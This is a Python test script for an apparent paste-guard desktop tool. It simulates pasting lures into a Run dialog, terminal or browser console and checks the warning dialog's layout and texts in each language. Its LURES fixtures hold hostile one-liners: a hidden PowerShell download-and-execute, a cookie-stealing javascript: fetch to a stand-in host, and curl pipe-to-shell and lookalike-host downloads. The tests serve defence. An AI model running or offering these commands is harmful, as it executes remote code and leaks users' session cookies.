"""The warning in the states people meet it, drawn on a real desktop and checked.

`python -m ui.warning.states LANG OUT.json [PICTURE_DIR]`, run inside an X session (Xvfb and a
window manager, see tests/desktop.py and ui/screenshots.py), builds a real GuardApp over the
profile the environment names, raises the warning for each lure below in language LANG, opens
"Why?", presses "Report to IT", and writes what ui.layout_check found, with every text shown,
to OUT.json.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from PySide6.QtWidgets import QWidget

    from ui.application import GuardApp

# (name, text, source page, paste target): a long source address, a stealer whose action
# names the host it sends to, a plain terminal paste, and a download from a site posing as a
# known publisher (the longest headline in every language: its action names a long host)
LURES = [
    (
        "clickfix",
        'powershell -w h -c "iwr https://cdn-check.example/v.ps1 | iex"'
        + " " * 60
        + "# I am not a robot - Verification ID: 7537",
        "https://captcha-check-secure-verification-gateway.example/cdn-cgi/challenge-platform/"
        "h/b/orchestrate/chl_page/v1?ray=8c1f2a3b4d5e6f70&lang=auto&redirect=%2Fdownload%2F",
        "run_dialog",
    ),
    (
        "stealer",
        "javascript:fetch('https://grab.example/t?c='+document.cookie)",
        "https://free-nitro.example/claim",
        "browser_console",
    ),
    (
        "terminal",
        "curl -fsSL https://brew-fix.example/install.sh | zsh",
        "https://support-mac.example/",
        "terminal",
    ),
    (
        "imitator",
        "curl -fsSLO https://homebrew-install-official-mirror-update.site/install.sh",
        "https://macos-developer-tools-help.example/getting-started/install-homebrew",
        "terminal",
    ),
]


def settle(seconds: float = 0.4) -> None:
    """Let the window manager answer and the layouts settle."""
    from PySide6.QtWidgets import QApplication

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        QApplication.processEvents()
        time.sleep(0.02)


def raise_warning(guard: GuardApp, text: str, source: str, target: str) -> QWidget:
    """A real copy and a real Ctrl+V into a window of `target`'s kind: the guard warns."""
    from PySide6.QtCore import QMimeData
    from PySide6.QtGui import QClipboard, QGuiApplication

    from app.platform.base import KeyEvent, WindowInfo

    windows = {
        "run_dialog": WindowInfo("explorer.exe", "#32770", "Run"),
        "terminal": WindowInfo("xterm", "XTerm", "bash"),
        "browser_console": WindowInfo("chrome", "Google-chrome", "DevTools - example"),
    }
    data = QMimeData()
    data.setText(text)
    data.setData("chromium/x-source-url", source.encode())
    QGuiApplication.clipboard().setMimeData(data, QClipboard.Mode.Clipboard)
    settle(0.2)
    service = guard.service
    service.process_pending()
    service.foreground = lambda: windows[target]
    now = time.monotonic()
    service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
    service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))
    service.on_key(KeyEvent("v", False, frozenset({"ctrl"}), now + 0.05))  # keys let go, so
    service.on_key(KeyEvent("ctrl", False, frozenset(), now + 0.06))  # the next Ctrl+V counts
    service.process_pending()
    settle()
    dialog = guard.warning
    deadline = time.monotonic() + 5
    while (
        not (
            dialog.isVisible()
            and dialog.warning is not None
            and dialog.warning.target.value == target
        )
        and time.monotonic() < deadline
    ):
        service.process_pending()
        settle(0.1)
    if not dialog.isVisible() or dialog.warning is None:
        raise SystemExit(f"no warning for {text!r}")
    return dialog


def texts(window: QWidget) -> list[str]:
    """Every text a person reads in the window (labels, buttons, the reasons' headings)."""
    from PySide6.QtWidgets import QAbstractButton, QLabel

    out = [window.windowTitle()]
    for widget in window.findChildren(QLabel) + window.findChildren(QAbstractButton):
        if widget.isVisibleTo(window) and widget.text():
            out.append(widget.text())
        if widget.toolTip():
            out.append(widget.toolTip())
        for text in (widget.accessibleName(), widget.accessibleDescription()):
            if text:
                out.append(text)
    return out


def check(guard: GuardApp, pictures: Path | None, language: str) -> dict[str, Any]:
    from ui.layout_check import problems

    results: dict[str, Any] = {}
    for name, text, source, target in LURES:
        dialog = raise_warning(guard, text, source, target)
        states: dict[str, Any] = {}
        for state in ("plain", "why", "report"):
            if state == "why":
                dialog.why.setChecked(True)  # type: ignore[attr-defined]
            if state == "report":
                dialog.report.click()  # type: ignore[attr-defined]
            settle()
            states[state] = {"problems": problems(dialog), "texts": texts(dialog),
                             "size": [dialog.width(), dialog.height()]}  # fmt: skip
            if pictures is not None:
                dialog.grab().save(str(pictures / f"warning-{language}-{name}-{state}.png"))
        results[name] = states
        dialog.hide()
        guard.warning._keep_safe()
        settle(0.2)
    return results


def main(argv: list[str]) -> int:
    import os

    from PySide6.QtGui import QClipboard, QGuiApplication
    from PySide6.QtWidgets import QApplication

    language, out = argv[0], Path(argv[1])
    pictures = Path(argv[2]) if len(argv) > 2 else None
    qt = QApplication(sys.argv[:1])
    qt.setQuitOnLastWindowClosed(False)
    policy = Path(os.environ["PASTEGUARD_POLICY"])
    policy.write_text(f'mode = "warn"\nlanguage = "{language}"\n', encoding="utf-8")
    from app.platform.fallback import NullBackend
    from ui.application import GuardApp

    guard = GuardApp(qt, Path(os.environ["PASTEGUARD_DATA_DIR"]), use_tray=False)
    guard.backend = NullBackend("warning states", {})
    guard.service.can_suppress_keys = True
    guard.outcomes.open_url = lambda url: False  # no mail program on a test desktop
    try:
        result = check(guard, pictures, language)
    finally:
        guard.stop()
        QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)
    out.write_text(json.dumps(result, ensure_ascii=False, indent=1), encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
